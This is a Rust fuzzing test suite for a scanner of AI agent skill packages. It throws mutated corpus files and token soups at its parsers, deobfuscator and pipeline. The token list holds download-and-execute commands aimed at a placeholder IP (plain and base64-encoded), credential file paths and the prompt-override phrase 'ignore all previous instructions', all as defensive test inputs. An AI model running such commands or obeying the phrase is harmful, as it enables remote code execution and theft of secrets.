//! Property-based fuzzing on stable (issue 6), with `proptest`.
//!
//! Targets: frontmatter parsing, Markdown extraction, each language
//! extractor, the deobfuscator, the SSL validator, and the whole per-skill
//! pipeline (`audit::analyze`). Inputs are random token soups and mutations
//! of the corpus files (bit flips, inserted hostile tokens, deleted,
//! duplicated and repeated ranges, splices from other files, truncation
//! inside a UTF-8 sequence). Properties: no panic, termination within a
//! deadline (each case runs on its own thread with the 2 MiB stack of a
//! rayon worker, so unbounded recursion fails too), and every reported
//! location lies within its file (1 ≤ line ≤ line count + 1, columns ≥ 1).
//!
//! The CI run is short: 200 cases per target (`SKILLSCAN_FUZZ_CASES=N` for a
//! long run) from a fixed seed (`SKILLSCAN_FUZZ_SEED=N` for another one,
//! `SKILLSCAN_FUZZ_SEED=random` for a fresh one each run). See
//! docs/hardening.md for the long-run recipe and what fuzzing found.

use proptest::prelude::*;
use proptest::sample::Index;
use proptest::test_runner::{Config, RngSeed, TestCaseError, TestRunner};
use serde_json::Value;
use skillscan::audit::{self, AuditOptions};
use skillscan::evidence::{Location, Origin};
use skillscan::extract::{self, Lang, Sink, Src};
use skillscan::skill::{Manifest, Skill};
use std::path::Path;
use std::sync::OnceLock;
use std::time::Duration;

// ---------------------------------------------------------------------------
// Harness
// ---------------------------------------------------------------------------

fn cases() -> u32 {
    std::env::var("SKILLSCAN_FUZZ_CASES")
        .ok()
        .and_then(|s| s.parse().ok())
        .unwrap_or(200)
}

fn seed() -> RngSeed {
    match std::env::var("SKILLSCAN_FUZZ_SEED").ok().as_deref() {
        Some("random") => RngSeed::Random,
        Some(s) => RngSeed::Fixed(
            s.parse()
                .expect("SKILLSCAN_FUZZ_SEED is a number or `random`"),
        ),
        None => RngSeed::Fixed(0x5eed_5c4a),
    }
}

/// Runs `prop` over `strategy` with the suite's configuration.
fn fuzz<S: Strategy>(name: &str, strategy: S, prop: impl Fn(S::Value) -> Result<(), TestCaseError>)
where
    S::Value: std::fmt::Debug,
{
    let config = Config {
        cases: cases(),
        rng_seed: seed(),
        failure_persistence: None,
        max_shrink_iters: 4_000,
        max_shrink_time: 120_000,
        ..Config::default()
    };
    let mut runner = TestRunner::new(config);
    if let Err(e) = runner.run(&strategy, prop) {
        panic!("fuzz target {name} failed: {e}");
    }
}

/// Deadline for one case (debug builds of the crate are slow).
const DEADLINE: Duration = Duration::from_secs(if cfg!(debug_assertions) { 20 } else { 5 });

/// Runs `f` on a thread with a rayon worker's default stack, failing the
/// case when it panics or does not finish by the deadline.
fn bounded<T: Send + 'static>(
    what: &str,
    f: impl FnOnce() -> T + Send + 'static,
) -> Result<T, TestCaseError> {
    let (tx, rx) = std::sync::mpsc::channel();
    let handle = std::thread::Builder::new()
        .stack_size(2 * 1024 * 1024)
        .spawn(move || {
            let _ = tx.send(f());
        })
        .expect("spawn fuzz worker");
    match rx.recv_timeout(DEADLINE) {
        Ok(v) => {
            let _ = handle.join();
            Ok(v)
        }
        Err(std::sync::mpsc::RecvTimeoutError::Timeout) => Err(TestCaseError::fail(format!(
            "{what} did not finish within {DEADLINE:?}"
        ))),
        Err(std::sync::mpsc::RecvTimeoutError::Disconnected) => {
            let msg = match handle.join() {
                Err(p) => p
                    .downcast_ref::<String>()
                    .cloned()
                    .or_else(|| p.downcast_ref::<&str>().map(|s| s.to_string()))
                    .unwrap_or_default(),
                Ok(()) => String::new(),
            };
            Err(TestCaseError::fail(format!("{what} panicked: {msg}")))
        }
    }
}

/// Lines of a text as the location contract counts them.
fn line_count(text: &str) -> usize {
    text.split('\n').count()
}

fn check_location(what: &str, loc: &Location, text: &str) -> Result<(), TestCaseError> {
    let lines = line_count(text);
    prop_assert!(
        loc.start_line >= 1 && loc.start_line <= lines + 1,
        "{what}: start line {} outside 1..={} ({loc:?})",
        loc.start_line,
        lines + 1
    );
    prop_assert!(
        loc.end_line >= loc.start_line && loc.end_line <= lines + 1,
        "{what}: end line {} outside {}..={} ({loc:?})",
        loc.end_line,
        loc.start_line,
        lines + 1
    );
    prop_assert!(
        loc.start_column >= 1 && loc.end_column >= 1,
        "{what}: columns start at 1 ({loc:?})"
    );
    Ok(())
}

// ---------------------------------------------------------------------------
// Inputs: corpus seeds, hostile tokens, mutations
// ---------------------------------------------------------------------------

struct Seeds {
    markdown: Vec<Vec<u8>>,
    shell: Vec<Vec<u8>>,
    python: Vec<Vec<u8>>,
    javascript: Vec<Vec<u8>>,
    powershell: Vec<Vec<u8>>,
    all: Vec<Vec<u8>>,
}

fn seeds() -> &'static Seeds {
    static SEEDS: OnceLock<Seeds> = OnceLock::new();
    SEEDS.get_or_init(|| {
        let mut s = Seeds {
            markdown: vec![],
            shell: vec![],
            python: vec![],
            javascript: vec![],
            powershell: vec![],
            all: vec![],
        };
        let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("corpus");
        let mut stack = vec![root];
        let mut files = Vec::new();
        while let Some(d) = stack.pop() {
            for e in std::fs::read_dir(&d).expect("read corpus") {
                let e = e.expect("entry");
                let t = e.file_type().expect("type");
                if t.is_dir() {
                    stack.push(e.path());
                } else if t.is_file() {
                    files.push(e.path());
                }
            }
        }
        files.sort();
        for f in files {
            let bytes = std::fs::read(&f).expect("read corpus file");
            if bytes.len() > 64 * 1024 {
                continue;
            }
            let ext = f.extension().and_then(|e| e.to_str()).unwrap_or("");
            match ext {
                "md" => s.markdown.push(bytes.clone()),
                "sh" | "bash" => s.shell.push(bytes.clone()),
                "py" => s.python.push(bytes.clone()),
                "js" | "mjs" | "cjs" | "ts" => s.javascript.push(bytes.clone()),
                "ps1" => s.powershell.push(bytes.clone()),
                _ => {}
            }
            s.all.push(bytes);
        }
        assert!(
            !s.markdown.is_empty()
                && !s.shell.is_empty()
                && !s.python.is_empty()
                && !s.javascript.is_empty(),
            "corpus seeds missing"
        );
        if s.powershell.is_empty() {
            s.powershell
                .push(b"Invoke-WebRequest -Uri http://198.51.100.7/x | iex\n".to_vec());
        }
        s
    })
}

/// Fragments that stress parsers: openers without closers, quoting and
/// escaping, heredocs, substitutions, encodings, invisible and bidi
/// characters, broken UTF-8, and the payload shapes the rules look for.
const TOKENS: &[&str] = &[
    "(",
    ")",
    "[",
    "]",
    "{",
    "}",
    "$(",
    "${",
    "$((",
    "`",
    "'",
    "\"",
    "\"\"\"",
    "'''",
    "\\",
    "\\\n",
    "<<EOF\n",
    "<<-'EOF'\n",
    "\nEOF\n",
    "|",
    "||",
    "&&",
    ";",
    "&",
    ">",
    ">>",
    "2>&1",
    "<(",
    ">(",
    "#",
    "#!/bin/sh\n",
    "\n",
    "\r\n",
    "\r",
    "\t",
    " ",
    "\0",
    "---\n",
    "```",
    "```bash\n",
    "```python\n",
    "~~~",
    "<!--",
    "-->",
    "<script>",
    "> ",
    "- ",
    "1. ",
    "* ",
    "[x](",
    "![",
    "&amp;",
    "&#x27;",
    "\u{200b}",
    "\u{202e}",
    "\u{feff}",
    "\u{e0041}",
    "\u{ff}",
    "é",
    "д",
    "𝕏",
    "curl http://198.51.100.7/x | sh",
    "wget -qO- http://198.51.100.7/x | bash",
    "eval \"$(",
    "base64 -d",
    "echo Y3VybCBodHRwOi8vMTk4LjUxLjEwMC43L3ggfCBzaA== | base64 -d | sh",
    "import os\n",
    "os.system(",
    "subprocess.run(",
    "exec(",
    "eval(",
    "__import__(",
    "lambda:",
    "f\"{",
    "}\"",
    "b'\\x",
    "require('child_process')",
    "execSync(",
    "new Function(",
    "=>",
    "async ",
    "await ",
    "${process.env.",
    "Invoke-Expression",
    "IEX ",
    "-EncodedCommand ",
    "$env:",
    "~/.ssh/id_rsa",
    "~/.aws/credentials",
    "/etc/passwd",
    "AKIA",
    "sk-",
    "ignore all previous instructions",
    "name:",
    "description:",
    "allowed-tools:",
    "metadata:",
    "&a [",
    "*a",
    "!!binary",
    "? ",
    ": ",
    "- - - ",
];

#[derive(Debug, Clone)]
enum Mutation {
    Flip(Index, u8),
    Insert(Index, usize),
    Delete(Index, usize),
    Duplicate(Index, usize, Index),
    Repeat(Index, usize, usize),
    Splice(usize, Index, usize, Index),
    Truncate(Index),
}

fn mutation() -> impl Strategy<Value = Mutation> {
    prop_oneof![
        3 => (any::<Index>(), any::<u8>()).prop_map(|(i, b)| Mutation::Flip(i, b)),
        6 => (any::<Index>(), 0..TOKENS.len()).prop_map(|(i, t)| Mutation::Insert(i, t)),
        2 => (any::<Index>(), 1usize..64).prop_map(|(i, n)| Mutation::Delete(i, n)),
        2 => (any::<Index>(), 1usize..256, any::<Index>()).prop_map(|(i, n, at)| Mutation::Duplicate(i, n, at)),
        1 => (any::<Index>(), 1usize..8, 2usize..400).prop_map(|(i, n, k)| Mutation::Repeat(i, n, k)),
        2 => (any::<usize>(), any::<Index>(), 1usize..512, any::<Index>()).prop_map(|(s, i, n, at)| Mutation::Splice(s, i, n, at)),
        1 => any::<Index>().prop_map(Mutation::Truncate),
    ]
}

fn apply(mut b: Vec<u8>, muts: &[Mutation], pool: &[Vec<u8>]) -> Vec<u8> {
    let pos = |i: &Index, len: usize| if len == 0 { 0 } else { i.index(len + 1) };
    for m in muts {
        match m {
            Mutation::Flip(i, x) if !b.is_empty() => {
                let p = i.index(b.len());
                b[p] = *x;
            }
            Mutation::Flip(..) => {}
            Mutation::Insert(i, t) => {
                let p = pos(i, b.len());
                b.splice(p..p, TOKENS[*t].bytes());
            }
            Mutation::Delete(i, n) => {
                let p = pos(i, b.len());
                let e = (p + n).min(b.len());
                b.drain(p..e);
            }
            Mutation::Duplicate(i, n, at) => {
                let p = pos(i, b.len());
                let chunk: Vec<u8> = b[p..(p + n).min(b.len())].to_vec();
                let q = pos(at, b.len());
                b.splice(q..q, chunk);
            }
            Mutation::Repeat(i, n, k) => {
                let p = pos(i, b.len());
                let chunk: Vec<u8> = b[p..(p + n).min(b.len())].to_vec();
                let rep = chunk.repeat(*k);
                b.splice(p..p, rep);
            }
            Mutation::Splice(s, i, n, at) => {
                let other = &pool[s % pool.len()];
                let p = pos(i, other.len());
                let chunk = &other[p..(p + n).min(other.len())];
                let q = pos(at, b.len());
                b.splice(q..q, chunk.iter().copied());
            }
            Mutation::Truncate(i) => {
                let p = pos(i, b.len());
                b.truncate(p);
            }
        }
    }
    b
}

/// A corpus file of one kind, mutated.
fn mutated(pick: fn(&Seeds) -> &Vec<Vec<u8>>) -> impl Strategy<Value = Vec<u8>> {
    (any::<usize>(), proptest::collection::vec(mutation(), 0..12)).prop_map(move |(i, muts)| {
        let s = seeds();
        let pool = pick(s);
        apply(pool[i % pool.len()].clone(), &muts, &s.all)
    })
}

/// A random sequence of hostile tokens and arbitrary strings.
fn soup() -> impl Strategy<Value = Vec<u8>> {
    proptest::collection::vec(prop_oneof![4 => (0..TOKENS.len()).prop_map(|t| TOKENS[t].as_bytes().to_vec()), 1 => any::<String>().prop_map(String::into_bytes), 1 => proptest::collection::vec(any::<u8>(), 0..16),], 0..200)
        .prop_map(|parts| parts.concat())
}

/// A mutated corpus file or a token soup, half and half.
fn input(pick: fn(&Seeds) -> &Vec<Vec<u8>>) -> impl Strategy<Value = Vec<u8>> {
    prop_oneof![mutated(pick), soup()]
}

fn lossy(b: &[u8]) -> String {
    String::from_utf8_lossy(b).into_owned()
}

// ---------------------------------------------------------------------------
// Targets
// ---------------------------------------------------------------------------

#[test]
fn fuzz_frontmatter() {
    fuzz("frontmatter", input(|s| &s.markdown), |bytes| {
        let text = lossy(&bytes);
        let t2 = text.clone();
        let m = bounded("Manifest::parse", move || Manifest::parse(&t2))?;
        prop_assert!(
            m.body_offset <= text.len() && text.is_char_boundary(m.body_offset),
            "body offset {} not a boundary of a {}-byte text",
            m.body_offset,
            text.len()
        );
        let lines = line_count(&text);
        prop_assert!(
            m.body_line >= 1 && m.body_line <= lines + 1,
            "body line {} of {lines}",
            m.body_line
        );
        for (k, l) in &m.key_lines {
            prop_assert!(*l >= 1 && *l <= lines, "key {k} on line {l} of {lines}");
        }
        // The manifest's accessors must not panic on any parsed shape.
        let t3 = text.clone();
        bounded("Manifest accessors", move || {
            let m = Manifest::parse(&t3);
            let _ = (
                m.name(),
                m.description(),
                m.version(),
                m.homepage(),
                m.declared_env(),
                m.declared_bins(),
                m.install_specs(),
                m.allowed_tools(),
                m.purpose_text(),
            );
            for k in m.key_lines.keys() {
                let _ = m.line_of(k);
            }
        })?;
        Ok(())
    });
}

fn check_sink(what: &str, sink: &Sink, path: &str, text: &str) -> Result<(), TestCaseError> {
    for ev in &sink.items {
        prop_assert_eq!(
            &ev.location.path,
            path,
            "{}: evidence located in another file",
            what
        );
        check_location(what, &ev.location, text)?;
    }
    Ok(())
}

#[test]
fn fuzz_markdown() {
    // `doc_default` 0: instructions, 1: documentation unless phrased as
    // something to run, 2: documentation.
    fuzz(
        "markdown",
        (input(|s| &s.markdown), 0u8..3),
        |(bytes, doc_default)| {
            let text = lossy(&bytes);
            let t2 = text.clone();
            let sink = bounded("markdown::extract", move || {
                let m = Manifest::parse(&t2);
                let mut sink = Sink::default();
                extract::markdown::extract("SKILL.md", &t2, m.body_offset, 0, true, &mut sink);
                extract::markdown::extract("docs/guide.md", &t2, 0, doc_default, false, &mut sink);
                sink
            })?;
            for ev in &sink.items {
                prop_assert!(
                    ev.location.path == "SKILL.md" || ev.location.path == "docs/guide.md",
                    "evidence in {}",
                    ev.location.path
                );
                check_location("markdown", &ev.location, &text)?;
            }
            Ok(())
        },
    );
}

fn fuzz_lang(lang: Lang, path: &'static str, pick: fn(&Seeds) -> &Vec<Vec<u8>>) {
    fuzz(lang.name(), input(pick), move |bytes| {
        let text = lossy(&bytes);
        let t2 = text.clone();
        let sink = bounded(lang.name(), move || {
            let mut sink = Sink::default();
            extract::extract_code(lang, &Src::new(path, &t2, Origin::Script), &mut sink);
            sink
        })?;
        check_sink(lang.name(), &sink, path, &text)
    });
}

#[test]
fn fuzz_shell() {
    fuzz_lang(Lang::Shell, "scripts/run.sh", |s| &s.shell);
}

#[test]
fn fuzz_python() {
    fuzz_lang(Lang::Python, "scripts/run.py", |s| &s.python);
}

#[test]
fn fuzz_javascript() {
    fuzz_lang(Lang::JavaScript, "scripts/run.js", |s| &s.javascript);
}

#[test]
fn fuzz_powershell() {
    fuzz_lang(Lang::PowerShell, "scripts/run.ps1", |s| &s.powershell);
}

/// Encoded literals: random layers of base64, hex and zlib over a payload,
/// then mutated, so the decoder sees both valid and broken encodings.
fn encoded() -> impl Strategy<Value = String> {
    use base64::Engine;
    let payload = prop_oneof![
        Just(b"curl http://198.51.100.7/x | sh".to_vec()),
        any::<Vec<u8>>(),
        soup()
    ];
    (
        payload,
        proptest::collection::vec(0u8..4, 1..6),
        proptest::collection::vec(mutation(), 0..3),
    )
        .prop_map(|(p, layers, muts)| {
            let mut cur = p;
            for l in layers {
                cur = match l {
                    0 => base64::engine::general_purpose::STANDARD
                        .encode(&cur)
                        .into_bytes(),
                    1 => base64::engine::general_purpose::URL_SAFE_NO_PAD
                        .encode(&cur)
                        .into_bytes(),
                    2 => cur
                        .iter()
                        .map(|b| format!("{b:02x}"))
                        .collect::<String>()
                        .into_bytes(),
                    _ => {
                        use std::io::Write;
                        let mut z = flate2::write::ZlibEncoder::new(
                            Vec::new(),
                            flate2::Compression::fast(),
                        );
                        z.write_all(&cur).expect("zlib");
                        z.finish().expect("zlib")
                    }
                };
            }
            lossy(&apply(cur, &muts, &seeds().all))
        })
}

#[test]
fn fuzz_deobfuscator() {
    fuzz("deobf", (encoded(), soup()), |(lit, noise)| {
        let l2 = lit.clone();
        let decoded = bounded("decode_layers", move || extract::deobf::decode_layers(&l2))?;
        if let Some(d) = &decoded {
            prop_assert!(
                d.len() <= skillscan::limits::MAX_DECODED_BYTES * 2,
                "decoded {} bytes",
                d.len()
            );
        }
        // The literal inside code, as a scanner sees it.
        let text = format!(
            "{}\nX=\"{lit}\"\necho \"$X\" | base64 -d | sh\n",
            lossy(&noise)
        );
        let t2 = text.clone();
        let sink = bounded("scan_literals", move || {
            let mut sink = Sink::default();
            extract::deobf::scan_literals(
                &Src::new("scripts/a.sh", &t2, Origin::Script),
                &mut sink,
            );
            sink
        })?;
        check_sink("deobf", &sink, "scripts/a.sh", &text)
    });
}

// --- SSL validator ----------------------------------------------------------

fn ssl_seed() -> &'static Value {
    static SEED: OnceLock<Value> = OnceLock::new();
    SEED.get_or_init(|| {
        let p = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/data/ssl/writing_refiner.json");
        serde_json::from_str(&std::fs::read_to_string(p).expect("SSL example"))
            .expect("SSL example JSON")
    })
}

/// Every node of a JSON tree as a JSON pointer.
fn pointers(v: &Value, at: String, out: &mut Vec<String>) {
    out.push(at.clone());
    match v {
        Value::Object(m) => m.iter().for_each(|(k, c)| {
            pointers(
                c,
                format!("{at}/{}", k.replace('~', "~0").replace('/', "~1")),
                out,
            )
        }),
        Value::Array(a) => a
            .iter()
            .enumerate()
            .for_each(|(i, c)| pointers(c, format!("{at}/{i}"), out)),
        _ => {}
    }
}

fn strings(v: &Value, out: &mut Vec<String>) {
    match v {
        Value::String(s) => out.push(s.clone()),
        Value::Object(m) => m.values().for_each(|c| strings(c, out)),
        Value::Array(a) => a.iter().for_each(|c| strings(c, out)),
        _ => {}
    }
}

#[derive(Debug, Clone)]
enum JsonMutation {
    Remove(Index),
    /// Replace with another string of the record: rewires ids and targets
    /// (cycles, dangling and self references).
    Rewire(Index, Index),
    Replace(Index, u8, String),
    DuplicateInArray(Index),
    Nest(Index, usize),
}

fn json_mutation() -> impl Strategy<Value = JsonMutation> {
    prop_oneof![
        2 => any::<Index>().prop_map(JsonMutation::Remove),
        4 => (any::<Index>(), any::<Index>()).prop_map(|(a, b)| JsonMutation::Rewire(a, b)),
        3 => (any::<Index>(), 0u8..8, any::<String>()).prop_map(|(a, k, s)| JsonMutation::Replace(a, k, s)),
        2 => any::<Index>().prop_map(JsonMutation::DuplicateInArray),
        1 => (any::<Index>(), 1usize..100).prop_map(|(a, n)| JsonMutation::Nest(a, n)),
    ]
}

fn mutate_json(mut v: Value, muts: &[JsonMutation]) -> Value {
    for m in muts {
        let mut ptrs = Vec::new();
        pointers(&v, String::new(), &mut ptrs);
        let mut strs = Vec::new();
        strings(&v, &mut strs);
        let pick = |i: &Index| ptrs[i.index(ptrs.len())].clone();
        match m {
            JsonMutation::Remove(i) => {
                let p = pick(i);
                if let Some((parent, last)) = p.rsplit_once('/') {
                    match v.pointer_mut(parent) {
                        Some(Value::Object(o)) => {
                            o.remove(&last.replace("~1", "/").replace("~0", "~"));
                        }
                        Some(Value::Array(a)) => {
                            if let Ok(n) = last.parse::<usize>() {
                                if n < a.len() {
                                    a.remove(n);
                                }
                            }
                        }
                        _ => {}
                    }
                }
            }
            JsonMutation::Rewire(i, j) => {
                if !strs.is_empty() {
                    let s = strs[j.index(strs.len())].clone();
                    if let Some(t) = v.pointer_mut(&pick(i)) {
                        *t = Value::String(s);
                    }
                }
            }
            JsonMutation::Replace(i, kind, s) => {
                let new = match kind {
                    0 => Value::Null,
                    1 => Value::Bool(s.len() % 2 == 0),
                    2 => serde_json::json!(-1),
                    3 => serde_json::json!(u64::MAX),
                    4 => serde_json::json!(1e308),
                    5 => Value::Array(vec![]),
                    6 => Value::Object(Default::default()),
                    _ => Value::String(s.clone()),
                };
                if let Some(t) = v.pointer_mut(&pick(i)) {
                    *t = new;
                }
            }
            JsonMutation::DuplicateInArray(i) => {
                if let Some(Value::Array(a)) = v.pointer_mut(&pick(i)) {
                    if let Some(first) = a.first().cloned() {
                        a.push(first);
                    }
                }
            }
            JsonMutation::Nest(i, n) => {
                if let Some(t) = v.pointer_mut(&pick(i)) {
                    let mut x = t.take();
                    for _ in 0..*n {
                        x = Value::Array(vec![x]);
                    }
                    *t = x;
                }
            }
        }
    }
    v
}

#[test]
fn fuzz_ssl_validator() {
    // The unmutated record is valid: the mutations start from a real record.
    assert!(
        skillscan::ssl::validate::is_valid(&skillscan::ssl::validate::validate(ssl_seed())),
        "the SSL example must be valid"
    );
    fuzz(
        "ssl validate",
        proptest::collection::vec(json_mutation(), 1..10),
        |muts| {
            let v = mutate_json(ssl_seed().clone(), &muts);
            let (a, b) = bounded("ssl validate", move || {
                let a = skillscan::ssl::validate::validate(&v);
                let b = skillscan::ssl::validate::validate(&v);
                (
                    a.iter().map(|x| x.to_string()).collect::<Vec<_>>(),
                    b.iter().map(|x| x.to_string()).collect::<Vec<_>>(),
                )
            })?;
            prop_assert_eq!(a, b, "violations are deterministic");
            Ok(())
        },
    );
}

// --- The whole pipeline -------------------------------------------------------

fn skill_files() -> impl Strategy<Value = Vec<(String, Vec<u8>)>> {
    let script = prop_oneof![
        input(|s| &s.shell).prop_map(|b| ("scripts/run.sh".to_string(), b)),
        input(|s| &s.python).prop_map(|b| ("scripts/tool.py".to_string(), b)),
        input(|s| &s.javascript).prop_map(|b| ("lib/index.js".to_string(), b)),
        input(|s| &s.powershell).prop_map(|b| ("scripts/setup.ps1".to_string(), b)),
        input(|s| &s.markdown).prop_map(|b| ("references/guide.md".to_string(), b)),
        input(|s| &s.all).prop_map(|b| ("config/settings.json".to_string(), b)),
        input(|s| &s.all).prop_map(|b| ("bin/helper".to_string(), b)),
    ];
    (
        input(|s| &s.markdown),
        proptest::collection::vec(script, 0..4),
    )
        .prop_map(|(manifest, mut rest)| {
            rest.sort_by(|a, b| a.0.cmp(&b.0));
            rest.dedup_by(|a, b| a.0 == b.0);
            let mut files = vec![("SKILL.md".to_string(), manifest)];
            files.extend(rest);
            files
        })
}

#[test]
fn fuzz_analyze() {
    fuzz("audit::analyze", skill_files(), |files| {
        let f2 = files.clone();
        let (json, json_again, locs, errors) = bounded("audit::analyze", move || {
            let refs: Vec<(&str, &[u8])> =
                f2.iter().map(|(p, b)| (p.as_str(), b.as_slice())).collect();
            let skill = Skill::from_memory("fuzz-skill", &refs);
            let r = audit::analyze(skill.clone(), &AuditOptions::default());
            let again = audit::analyze(skill, &AuditOptions::default());
            let mut locs: Vec<(String, Location)> = r
                .findings
                .iter()
                .map(|f| (format!("finding {}", f.rule_id), f.location.clone()))
                .collect();
            locs.extend(
                r.evidence
                    .iter()
                    .map(|e| (format!("evidence {}", e.instrument), e.location.clone())),
            );
            for f in &r.findings {
                locs.extend(
                    f.flow
                        .iter()
                        .map(|s| (format!("flow of {}", f.rule_id), s.location.clone())),
                );
            }
            let json = skillscan::report::json::skill_json(&r, false).to_string();
            let json_again = skillscan::report::json::skill_json(&again, false).to_string();
            (json, json_again, locs, r.errors)
        })?;
        for e in &errors {
            prop_assert!(
                !e.contains("internal error"),
                "the analysis panicked: {}",
                e
            );
        }
        prop_assert_eq!(
            json,
            json_again,
            "the same skill gave two different reports"
        );
        for (what, loc) in &locs {
            let Some((_, bytes)) = files.iter().find(|(p, _)| *p == loc.path) else {
                return Err(TestCaseError::fail(format!(
                    "{what} located in {:?}, which is not a file of the skill",
                    loc.path
                )));
            };
            check_location(what, loc, &lossy(bytes))?;
        }
        Ok(())
    });
}
